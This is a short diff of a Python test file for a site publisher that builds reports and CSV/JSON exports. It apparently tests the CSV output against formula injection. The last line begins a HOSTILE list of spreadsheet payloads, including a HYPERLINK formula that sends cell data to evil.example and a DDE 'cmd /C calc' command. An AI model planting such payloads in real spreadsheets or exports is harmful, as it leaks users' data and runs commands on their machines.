@@ -12,15 +12,14 @@ from pathlib import Path
 import pytest
 from bs4 import BeautifulSoup
 
-from conftest import ROOT, copy_project, report_text, write_tree
+from conftest import nit_definitions, copy_project, report_text, write_tree
 from publisher.assemble import assemble
 from publisher.config import SiteConfig
-from publisher.definitions import load_definitions
 from publisher.load import load_reports
 from publisher.pipeline import Paths, build
 from publisher.reportdata import csv_text, reports_csv, reports_json
 
-DEFINITIONS = load_definitions(ROOT / "data")
+DEFINITIONS = nit_definitions()
 CONFIG = SiteConfig(base_url="/", url="https://example.org")
 RATINGS = {c.key: 3.0 for c in DEFINITIONS.categories}
 HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
